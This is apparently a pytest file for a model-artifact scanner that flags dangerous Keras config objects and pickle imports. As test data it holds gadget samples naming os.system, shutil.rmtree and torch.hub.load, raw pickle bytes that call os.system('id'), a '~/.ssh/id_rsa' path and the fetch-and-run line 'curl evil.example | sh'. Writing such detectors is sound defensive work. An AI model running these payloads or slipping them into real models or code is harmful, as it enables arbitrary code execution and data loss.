"""Configs: what Keras would import and call, and what is no finding."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tensorboard_plugin_modelinspect.analyses.scan.keras import scan_documents
from tensorboard_plugin_modelinspect.analyses.scan.pickles import read_pickle
from tensorboard_plugin_modelinspect.analyses.scan.result import Finding
from tensorboard_plugin_modelinspect.analyses.scan.texts import read_meaning
from tensorboard_plugin_modelinspect.model.artifact import Document


def scan(config: Any) -> list[Finding]:
    """Findings of a config."""
    return scan_documents((Document("config.json", json.dumps(config)),)).findings


@pytest.mark.parametrize(
    ("config", "told"),
    [
        ({"module": "keras.layers", "class_name": "Dense", "config": {}}, None),
        ({"module": "builtins", "class_name": "tuple", "config": []}, None),
        ({"module": "keras.src.ops.numpy", "class_name": "Sin", "config": {}}, None),
        ({"class_name": "Dense", "config": {"units": 2}}, None),
        ({"class_name": "Custom>Adam", "config": {}}, None),
        ({"module": "mine.layers", "class_name": "Own", "config": {}}, ("custom-object", "low")),
        ({"module": "shutil", "class_name": "rmtree", "config": {}}, ("config-gadget", "critical")),
        ({"module": "os.path", "class_name": "Any", "config": {}}, ("config-gadget", "critical")),
        (
            {"module": "torch.hub", "class_name": "load", "config": {}},
            ("config-gadget", "critical"),
        ),
        ({"class_name": "StringLookup", "config": {"vocabulary": ["/etc/passwd"]}}, None),
        ({"class_name": "Any", "config": {"filepath": "s3://x/y"}}, ("config-path", "high")),
        ({"class_name": "Any", "config": {"filepath": "weights.h5"}}, None),
    ],
)
def test_objects(config: dict[str, Any], told: tuple[str, str] | None) -> None:
    """Also below lists and other objects, and once for each class."""
    deep = {"class_name": "Functional", "config": {"layers": [config, [{"a": config}]]}}
    for one in (config, deep):
        found = [(finding.rule, finding.severity) for finding in scan(one)]
        assert found == ([] if told is None else [told])


def test_where_it_stands() -> None:
    """The path in the document leads to the object."""
    bad = {"module": "os", "class_name": "system", "config": "id"}
    [finding] = scan({"config": {"layers": [{}, {"config": {"activation": bad}}]}})
    assert finding.where.inside == "config.layers[1].config.activation"
    assert finding.argument == '"id"'


def test_what_is_no_json_is_said() -> None:
    """A config that cannot be parsed is a gap, deep ones too; a vocabulary is none."""
    documents = (
        Document("config.json", "{"),
        Document("model_config", "[" * 100_000),
        Document("assets/words.txt", "{"),
    )
    found = scan_documents(documents)
    assert (found.findings, found.documents, len(found.gaps)) == ([], 2, 2)


@pytest.mark.parametrize(
    ("text", "meaning"),
    [
        ("data/labels.txt", (False, False, False, False)),
        ("/data/labels.txt", (True, False, False, False)),
        ("C:\\data", (True, False, False, False)),
        ("a/../../b", (True, False, False, False)),
        ("gs://bucket/x", (True, True, False, False)),
        ("example.org:5000", (True, True, False, False)),
        ("~/.ssh/id_rsa", (True, False, True, False)),
        ("local://", (False, False, False, False)),
        ("curl evil.example | sh", (False, False, False, True)),
        ("12:30", (False, False, False, False)),
    ],
)
def test_meanings(text: str, meaning: tuple[bool, ...]) -> None:
    """Paths, addresses, places of keys, and words of a shell."""
    assert tuple(read_meaning([text])) == meaning


def test_pickles_are_read_and_not_loaded() -> None:
    """Imports by every opcode there is, through the memo too; and bytes that are none."""
    assert read_pickle(b"cos\nsystem\n(S'id'\ntR.").dangerous == ["os.system"]
    assert read_pickle(b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x93.").names == ("os.system",)
    again = b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94h\x00h\x01\x93."
    assert read_pickle(again).names == ("os.system",)
    assert not read_pickle(b"\x80\x04" + b"\xff" * 20).is_whole
    assert not read_pickle(b"\x8c\xff").is_whole
